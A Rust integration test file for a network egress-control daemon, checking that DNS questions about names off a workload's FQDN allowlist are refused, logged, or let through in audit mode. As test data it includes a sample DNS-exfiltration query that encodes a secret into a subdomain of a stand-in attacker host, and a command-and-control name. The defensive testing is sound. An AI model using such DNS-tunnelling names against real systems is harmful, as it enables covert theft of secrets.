//! DNS questions are destinations too: with `dns_queries = "allowlisted"`, a strict workload
//! can ask only about names its FQDN rules allow (and their search-list expansions). Other
//! questions never leave the host (the sender gets EPERM at once, the resolver never sees
//! them), and the event names the refused name; audit mode lets them through and reports
//! them. The C libraries' own stub resolvers (glibc and musl) still resolve allowed names
//! through a search list.
//!
//! Privileged: root, cgroup v2, built binaries (`cargo build --bins`), dnsmasq, cc and
//! musl-gcc.

use std::time::Duration;

use egressd_tests::{
    Daemon, DnsSettings, Dnsmasq, EVENT_TIMEOUT, Libc, TcpTarget, TestCgroup, WorkloadSpec,
    allow_fqdn, policy_toml, resolve_in, run_probe_in,
};

const PROBE: &str = "probe";
const ALLOWED: &str = "api.vendor.test";
const SEARCH_DOMAIN: &str = "corp.test";

fn allowlisted_policy(cgroup: &TestCgroup, resolver: &str, port: u16) -> String {
    let mut text = policy_toml(
        "strict",
        &[],
        &[WorkloadSpec::new(PROBE, cgroup)
            .dns_queries("allowlisted")
            .allow(allow_fqdn(ALLOWED, &[port], "tcp"))],
    );
    text.push_str(
        &DnsSettings::resolvers(&[resolver])
            .search_domains(&[SEARCH_DOMAIN])
            .toml(),
    );
    text
}

#[test]
fn privileged_strict_refuses_questions_about_names_off_the_allowlist() {
    const RESOLVER: &str = "127.0.53.42";
    let cgroup = TestCgroup::new();
    let api = TcpTarget::bind("127.0.0.5");
    let dnsmasq = Dnsmasq::builder(RESOLVER)
        .host(ALLOWED, "127.0.0.5")
        .host("c2.attacker.test", "127.0.0.6")
        .start();
    let daemon = Daemon::start(&allowlisted_policy(&cgroup, RESOLVER, api.port));

    run_probe_in(
        &cgroup,
        &["resolve-connect", RESOLVER, ALLOWED, &api.port_str()],
    )
    .assert_ok("an allowed name resolves and connects");
    let secret = "c2ZjcmV0LWtleQ.exfil.attacker.test";
    run_probe_in(&cgroup, &["dns-query", RESOLVER, secret, "500"])
        .assert_eperm("a question about a name no rule allows");
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_eperm("another name off the allowlist");

    // Events name it as the DNS compares names: lowercase.
    let reported = secret.to_ascii_lowercase();
    let event = daemon.wait_for_event("the refused question", EVENT_TIMEOUT, |event| {
        event["kind"] == "denied" && event["dns_name"] == reported.as_str()
    });
    assert_eq!(event["reason"], "dns_query", "{event}");
    assert_eq!(
        event["comm"], "egressd-probe",
        "the process that asked: {event}"
    );
    assert!(event["pid"].as_u64() > Some(0), "{event}");
    assert_eq!(event["workload"], PROBE, "{event}");
    assert_eq!(event["destination"], format!("{RESOLVER}:53"), "{event}");
    let logs = dnsmasq.logs();
    assert!(logs.contains(&format!("query[A] {ALLOWED}")), "{logs}");
    assert!(
        !logs.contains("attacker.test"),
        "refused questions never reached the resolver:\n{logs}"
    );
    let datapath = &daemon.status()["datapath"];
    assert!(
        datapath["dns_queries_refused"].as_u64() >= Some(2),
        "status counts the refused questions: {datapath}"
    );
    assert_eq!(
        datapath["dns_search_domains"][0], SEARCH_DOMAIN,
        "{datapath}"
    );

    // Audit: the question goes out, and is reported as one strict mode would refuse.
    daemon.ctl_ok(&["mode", "audit", "--workload", PROBE]);
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_ok("audit lets the question through");
    daemon.wait_for_event("the would-refuse report", EVENT_TIMEOUT, |event| {
        event["kind"] == "would_deny" && event["dns_name"] == "c2.attacker.test"
    });
    assert!(dnsmasq.logs().contains("query[A] c2.attacker.test"));
}

/// glibc and musl try `name.search.domain` before `name` when the name has fewer dots than
/// `ndots`. The expansion of an allowed name goes out (the resolver answers NXDOMAIN and the
/// stub moves on to the bare name); the expansion of any other name is refused, and the
/// lookup fails: at once for glibc (a send error ends its search), after its timeout for
/// musl (which ignores send errors and waits for an answer).
#[test]
fn privileged_search_lists_still_resolve_allowed_names_with_glibc_and_musl() {
    const RESOLVER: &str = "127.0.53.43";
    let cgroup = TestCgroup::new();
    let api = TcpTarget::bind("127.0.0.5");
    let dnsmasq = Dnsmasq::builder(RESOLVER)
        .host(ALLOWED, "127.0.0.5")
        .host("c2.attacker.test", "127.0.0.6")
        .local_domain("test")
        .start();
    let daemon = Daemon::start(&allowlisted_policy(&cgroup, RESOLVER, api.port));
    // ndots:5 as in Kubernetes pods: every name here is tried with the search domain first.
    let resolv_conf = format!(
        "nameserver {RESOLVER}\nsearch {SEARCH_DOMAIN}\noptions ndots:5 timeout:1 attempts:1\n"
    );

    for libc in [Libc::Glibc, Libc::Musl] {
        let allowed = resolve_in(&cgroup, libc, &resolv_conf, ALLOWED);
        println!("{allowed}");
        assert!(
            allowed.ok,
            "an allowed name resolves through the search list: {allowed}"
        );
        assert_eq!(allowed.addresses, ["127.0.0.5"], "{allowed}");

        let refused = resolve_in(&cgroup, libc, &resolv_conf, "c2.attacker.test");
        println!("{refused} (after {:?})", refused.elapsed);
        assert!(
            !refused.ok,
            "a name off the allowlist does not resolve: {refused}"
        );
        assert_eq!(
            refused.error.as_deref(),
            Some("EAI_AGAIN"),
            "what a refused question looks like to {libc}: {refused}"
        );
        if libc == Libc::Glibc {
            // Not a speed goal: glibc fails on the send error instead of waiting out the
            // 1 s timeout of its resolv.conf, which is what "fails fast" means here.
            assert!(
                refused.elapsed < Duration::from_millis(900),
                "glibc gives up on the refused send without waiting for an answer: {refused}"
            );
        }
    }
    let logs = dnsmasq.logs();
    for expected in [
        format!("query[A] {ALLOWED}.{SEARCH_DOMAIN}"),
        format!("query[A] {ALLOWED} "),
    ] {
        assert!(
            logs.contains(&expected),
            "{expected:?} reached the resolver:\n{logs}"
        );
    }
    assert!(
        !logs.contains("attacker"),
        "no question about the other name, expanded or not, reached the resolver:\n{logs}"
    );

    // Without the search domain in the policy, the expansion is refused like any other name,
    // and glibc never gets to the bare, allowed name: this is what search_domains is for.
    let policy = allowlisted_policy(&cgroup, RESOLVER, api.port).replace(
        &format!("search_domains = [{SEARCH_DOMAIN:?}]"),
        "search_domains = []",
    );
    daemon.rewrite_policy(&policy);
    let reload = daemon.reload();
    assert!(reload.status.success(), "reload: {reload:?}");
    let cut_off = resolve_in(&cgroup, Libc::Glibc, &resolv_conf, ALLOWED);
    println!("without search_domains: {cut_off}");
    assert_eq!(cut_off.error.as_deref(), Some("EAI_AGAIN"), "{cut_off}");
}

#[test]
fn privileged_questions_are_free_unless_the_workload_opts_in() {
    const RESOLVER: &str = "127.0.53.44";
    let cgroup = TestCgroup::new();
    let api = TcpTarget::bind("127.0.0.5");
    let dnsmasq = Dnsmasq::builder(RESOLVER)
        .host("c2.attacker.test", "127.0.0.6")
        .start();
    let mut policy = policy_toml(
        "strict",
        &[],
        &[WorkloadSpec::new(PROBE, &cgroup).allow(allow_fqdn(ALLOWED, &[api.port], "tcp"))],
    );
    policy.push_str(&DnsSettings::resolvers(&[RESOLVER]).toml());
    let _daemon = Daemon::start(&policy);
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_ok("dns_queries defaults to any");
    assert!(dnsmasq.logs().contains("query[A] c2.attacker.test"));
}
